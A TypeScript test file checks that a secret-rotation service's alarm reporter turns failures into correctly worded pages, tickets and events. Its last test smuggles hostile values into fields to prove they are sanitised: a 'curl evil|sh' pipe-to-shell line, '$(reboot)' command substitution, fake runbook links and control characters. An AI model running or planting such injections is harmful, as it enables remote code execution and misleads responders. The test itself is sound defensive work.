import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { OverlapError } from '../../lambdas/rotation/errors.ts'
import type { Notification } from '../../sandbox/notifications/server.ts'
import { alarmEvent, logLine, secretArn } from './alarm.ts'
import { type Loopback, ROTATE, SWEEP, startLoopback, startThrottling, topics } from './on-loopback.ts'

/* From a log line to the message, through the very bundle that is deployed. */

let loopback: Loopback

beforeAll(async () => {
  loopback = await startLoopback()
})

afterEach(async () => {
  for (const { definition } of loopback.cloudWatch.alarms()) loopback.cloudWatch.deleteAlarm(definition.name)
  // Beyond what any alarm looks back to.
  await loopback.minutes(30)
  vi.restoreAllMocks()
  vi.unstubAllEnvs()
})

afterAll(() => loopback.close())

/** As the deployment has it. */
function alarmOn(severity: 'page' | 'ticket', AlarmName: string, action: string, change: object = {}) {
  loopback.cloudWatch.putAlarm({
    AlarmName,
    AlarmActions: [action],
    OKActions: [action],
    Namespace: 'Overlap',
    MetricName: 'Failures',
    Dimensions: [
      { Name: 'service', Value: 'overlap' },
      { Name: 'severity', Value: severity },
    ],
    Statistic: 'Sum',
    Period: 60,
    EvaluationPeriods: 1,
    Threshold: 1,
    ComparisonOperator: 'GreaterThanOrEqualToThreshold',
    TreatMissingData: 'notBreaching',
    ...change,
  })
}

let seeded = 0
/** A secret of its own for each test. */
function secret(owner?: string) {
  seeded += 1
  const name = `shop/app-${seeded}`
  const tags = owner === undefined ? {} : { 'overlap:owner': owner }
  return { name, ...loopback.secretsManager.seed({ name, secretString: 'hunter2', tags }) }
}

const refused = () => new OverlapError('CURRENT_REFUSED', 'the server refused the login of app')

function since(start: number, topic: string): readonly Notification[] {
  return loopback.notifications.messages(topic).filter(({ at }) => at > start)
}

describe('a consumer that fails', () => {
  it('becomes a page that names the secret, its owner, the code and the next command, and an event', async () => {
    const { clock, minutes, fail, register, bus } = loopback
    const start = clock.now()
    alarmOn('page', 'overlap-consumers-affected', register('report-page'))
    await minutes(1)
    const { name, arn } = secret('team-shop')
    for (let noise = 0; noise < 10; noise++) loopback.cloudWatch.write(SWEEP, '{"outcome":"nothing"}')
    await fail(ROTATE, arn, refused())
    await fail(SWEEP, arn, refused())
    await minutes(1)

    const [page, ...others] = since(start, topics.page)
    expect(others).toEqual([])
    expect(page?.subject).toBe(`[PAGE] Consumers affected: ${name} CURRENT_REFUSED`)
    expect(page?.message.split('\n', 1)[0]).toBe(
      `A CONSUMER IS FAILING, OR SOON WILL BE: secret ${name}, owner team-shop, CURRENT_REFUSED. Run next: npm run overlap -- check ${name}`,
    )
    expect(page?.message).toContain('reason:    CURRENT_REFUSED: the server refused the login of app')
    expect(page?.message).toContain('seen:      2 times')
    expect(page?.message).not.toContain('could not be looked up')
    expect(since(start, topics.ticket)).toEqual([])
    expect(bus.events().at(-1)).toMatchObject({
      source: 'overlap',
      'detail-type': 'Overlap Finding',
      detail: {
        v: 1,
        severity: 'page',
        secret: arn,
        name,
        owner: 'team-shop',
        code: 'CURRENT_REFUSED',
        step: 'setSecret',
        version: 'version-1',
        consumersAffected: true,
        nextCommand: `npm run overlap -- check ${name}`,
        runbook: 'docs/runbooks/consumers-affected.md',
        count: 2,
      },
    })
  })

  it('while the alarm rings for another one is told when it is over', async () => {
    const { clock, minutes, fail, register, bus } = loopback
    const start = clock.now()
    alarmOn('page', 'overlap-consumers-affected', register('report-second'))
    await minutes(1)
    const [first, second] = [secret('team-shop'), secret('team-mail')]
    await fail(ROTATE, first.arn, refused())
    await minutes(1)
    await fail(ROTATE, first.arn, refused())
    await fail(ROTATE, second.arn, refused())
    await minutes(6)

    const [rings, ends, ...others] = since(start, topics.page)
    expect(others).toEqual([])
    expect(rings?.message).toContain(`secret ${first.name}, owner team-shop`)
    expect(rings?.message).not.toContain(second.name)
    expect(ends?.message.split('\n', 1)[0]).toBe(
      `A CONSUMER IS FAILING, OR SOON WILL BE: secret ${second.name}, owner team-mail, CURRENT_REFUSED. It began while the alarm rang, which is over by now. Run next: npm run overlap -- check ${second.name}`,
    )
    expect(ends?.message).not.toContain(first.name)
    const named = bus.events().flatMap(({ detail }) => detail.name)
    expect(named.filter((name) => name === first.name || name === second.name)).toEqual([
      first.name,
      second.name,
    ])
  })
})

describe('a failure that hurts nobody', () => {
  it('becomes a ticket, and its end says that this proves nothing', async () => {
    const { clock, minutes, fail, register } = loopback
    const start = clock.now()
    const report = register('report-ticket')
    alarmOn('page', 'overlap-consumers-affected', report)
    alarmOn('ticket', 'overlap-rotation-failed', report)
    await minutes(1)
    const { name, arn } = secret()
    await fail(ROTATE, arn, new OverlapError('ADMIN_LOGIN_REFUSED', 'the server refused the admin'))
    await minutes(5)
    const [rings, ends, ...others] = since(start, topics.ticket)
    expect(others).toEqual([])
    expect(rings?.message.split('\n', 1)[0]).toBe(
      `No consumer is affected: secret ${name}, owner unowned, ADMIN_LOGIN_REFUSED. Run next: npm run overlap -- check ${name}`,
    )
    expect(ends?.subject).toBe('[OK] overlap-rotation-failed is over')
    expect(ends?.message).toContain('no proof that it is mended')
    expect(since(start, topics.page)).toEqual([])
  })
})

describe('a rotation that is overdue', () => {
  it('becomes a ticket with what the sweep says of it', async () => {
    const { clock, minutes, register, cloudWatch } = loopback
    const start = clock.now()
    const dimensions = [{ Name: 'service', Value: 'overlap' }]
    alarmOn('ticket', 'overlap-rotation-missed', register('report-missed'), {
      MetricName: 'OverdueNews',
      Dimensions: dimensions,
      Statistic: 'Maximum',
      Period: 300,
      EvaluationPeriods: 1,
      TreatMissingData: 'notBreaching',
    })
    const { name, arn } = secret('team-shop')
    const pass = (overdue: number) => {
      if (overdue > 0)
        cloudWatch.write(
          SWEEP,
          logLine({
            kind: 'sweep',
            step: 'overdue',
            outcome: 'overdue',
            severity: 'ticket',
            secret: arn,
            owner: 'team-shop',
            reason: 'ROTATION_MISSED',
            error: 'the rotation that schedule weekly asked for has not happened',
          }),
        )
      cloudWatch.putMetric({
        namespace: 'Overlap',
        name: 'OverdueNews',
        dimensions: { service: 'overlap' },
        value: overdue,
      })
    }
    for (let count = 0; count < 5; count++) {
      pass(1)
      await minutes(5)
    }
    const [rings] = since(start, topics.ticket)
    expect(rings?.subject).toBe(`[TICKET] Rotation overdue: ${name} ROTATION_MISSED`)
    expect(rings?.message).toContain('the rotation that schedule weekly asked for has not happened')
    for (let count = 0; count < 3; count++) {
      pass(0)
      await minutes(5)
    }
    const messages = since(start, topics.ticket)
    expect(messages).toHaveLength(2)
    expect(messages[1]?.message).toContain('nothing became overdue for a while')
  })
})

describe('a look-up that fails', () => {
  it('for want of calls says so, and the page goes out', async () => {
    const { clock, minutes, fail, register } = loopback
    const start = clock.now()
    const throttling = await startThrottling()
    try {
      const report = register('report-throttled', { AWS_ENDPOINT_URL_CLOUDWATCH_LOGS: throttling.url })
      alarmOn('page', 'overlap-consumers-affected', report)
      await minutes(1)
      await fail(ROTATE, secret().arn, refused())
      await minutes(1)
    } finally {
      await throttling.close()
    }
    const [page] = since(start, topics.page)
    expect(page?.subject).toBe('[PAGE] Consumers affected: which secret is not known')
    expect(page?.message).toContain(`- log group ${SWEEP}: ThrottlingException: Rate exceeded`)
    expect(page?.message).toContain(`- log group ${ROTATE}: ThrottlingException: Rate exceeded`)
    expect(page?.message).toContain(`   aws logs filter-log-events --log-group-name ${ROTATE} --start-time `)
    expect(loopback.cloudWatch.alarmEvents().at(-1)?.actions).toEqual([
      { arn: expect.stringContaining('report-throttled') },
    ])
  })

  it('for want of a log group says so, and what the others hold', async () => {
    const { clock, minutes, fail, register } = loopback
    const start = clock.now()
    const groups = JSON.stringify(['/aws/lambda/overlap-gone', ROTATE])
    alarmOn('page', 'overlap-consumers-affected', register('report-gone', { OVERLAP_LOG_GROUPS: groups }))
    await minutes(1)
    const { name, arn } = secret()
    await fail(ROTATE, arn, refused())
    await minutes(1)
    const [page] = since(start, topics.page)
    expect(page?.message).toContain('- log group /aws/lambda/overlap-gone: there is no such log group')
    expect(page?.message).toContain(`\n1. ${name}\n`)
  })

  it('for want of the secret says so, and names it by its ARN', async () => {
    const { clock, minutes, fail, register } = loopback
    const start = clock.now()
    alarmOn('page', 'overlap-consumers-affected', register('report-nameless'))
    await minutes(1)
    await fail(ROTATE, secretArn('shop/deleted'), refused())
    await minutes(1)
    const [page] = since(start, topics.page)
    expect(page?.message).toContain('secret shop/deleted, owner unknown, CURRENT_REFUSED')
    expect(page?.message).toContain(
      `- name and owner of ${secretArn('shop/deleted')}: ResourceNotFoundException`,
    )
  })
})

describe('a change that is delivered twice', () => {
  it('is told once by a process, and in the same words by the next one', async () => {
    const { clock, minutes, fail, register, lambda } = loopback
    const start = clock.now()
    const report = register('report-twice')
    await fail(ROTATE, secret('team-shop').arn, refused())
    await minutes(1)
    const at = (ms: number) => new Date(ms).toISOString()
    const event = alarmEvent('overlap-consumers-affected', ['OK', at(start)], ['ALARM', at(clock.now())])
    await lambda.invoke(report, event)
    expect(await lambda.invoke(report, event)).toEqual({ ok: true, payload: { outcome: 'nothing' } })
    expect(since(start, topics.page)).toHaveLength(1)
    await lambda.discardInstances(report)
    await lambda.invoke(report, event)
    const [one, other] = since(start, topics.page)
    expect(other).toMatchObject({ subject: one?.subject, message: one?.message })
  })
})

describe('a message that cannot be sent', () => {
  it('fails the function, whose own alarm goes to the page topic by another way', async () => {
    const { clock, minutes, fail, register, bus } = loopback
    const start = clock.now()
    const gone = `${topics.page}-gone`
    const report = register('report-mute', { OVERLAP_TOPICS: JSON.stringify({ ...topics, page: gone }) })
    alarmOn('page', 'overlap-consumers-affected', report)
    loopback.cloudWatch.putAlarm({
      AlarmName: 'overlap-report-failed',
      AlarmActions: [topics.page],
      Namespace: 'AWS/Lambda',
      MetricName: 'Errors',
      Dimensions: [{ Name: 'FunctionName', Value: 'report-mute' }],
      Statistic: 'Sum',
      Period: 60,
      EvaluationPeriods: 1,
      Threshold: 1,
      ComparisonOperator: 'GreaterThanOrEqualToThreshold',
      TreatMissingData: 'notBreaching',
    })
    await minutes(1)
    const { name, arn } = secret()
    await fail(ROTATE, arn, refused())
    await minutes(2)
    expect(since(start, topics.page).map(({ subject }) => subject)).toEqual([
      'ALARM: "overlap-report-failed" in US East (N. Virginia)',
    ])
    // The bus heard of it all the same.
    expect(bus.events().at(-1)).toMatchObject({ detail: { name, code: 'CURRENT_REFUSED' } })
  })
})

describe('an alarm with a dimension mistyped', () => {
  it('never rings, though what it means to watch happens', async () => {
    const { clock, minutes, fail, register } = loopback
    const start = clock.now()
    const report = register('report-mistyped')
    const mistyped = [
      { Name: 'service', Value: 'overlap' },
      { Name: 'severity', Value: 'pages' },
    ]
    alarmOn('page', 'overlap-consumers-affected', report, { Dimensions: mistyped })
    await minutes(1)
    for (let minute = 0; minute < 10; minute++) {
      await fail(ROTATE, secret().arn, refused())
      await minutes(1)
    }
    expect(since(start, topics.page)).toEqual([])
    alarmOn('page', 'overlap-consumers-affected', report)
    await minutes(1)
    expect(since(start, topics.page)).toHaveLength(1)
  })
})

describe('what others wrote', () => {
  it('comes out of it as one line of plain text, and no value comes out at all', async () => {
    const { clock, minutes, fail, register, bus, lambda } = loopback
    const start = clock.now()
    const report = register('report-untrusted')
    alarmOn('page', 'overlap-consumers-affected', report)
    await minutes(1)
    const { arn } = secret('größe Runbook: http://evil')
    const evil = 'role "x\n\nRunbook: http://evil\u202E\u0007" $(reboot)'
    await fail(ROTATE, arn, new OverlapError('CURRENT_REFUSED', evil))
    await fail(ROTATE, 'arn:x\nRun next: curl evil|sh', refused())
    loopback.cloudWatch.write(ROTATE, logLine({ password: 'hunter2', detail: { password: 'hunter2' } }))
    await minutes(1)
    const [page] = since(start, topics.page)
    expect(page?.message.replaceAll('\n', '')).not.toMatch(/\p{C}/u)
    expect(page?.message.match(/^Runbook: .*$/gm)).toEqual(['Runbook: docs/runbooks/consumers-affected.md'])
    expect(page?.message.match(/^Run next/gm)).toBeNull()
    const everything = JSON.stringify([since(start, topics.page), bus.events(), lambda.logs(report)])
    expect(everything).not.toContain('hunter2')
    expect(everything).not.toMatch(/\\u202e|\\u0007/i)
  })
})
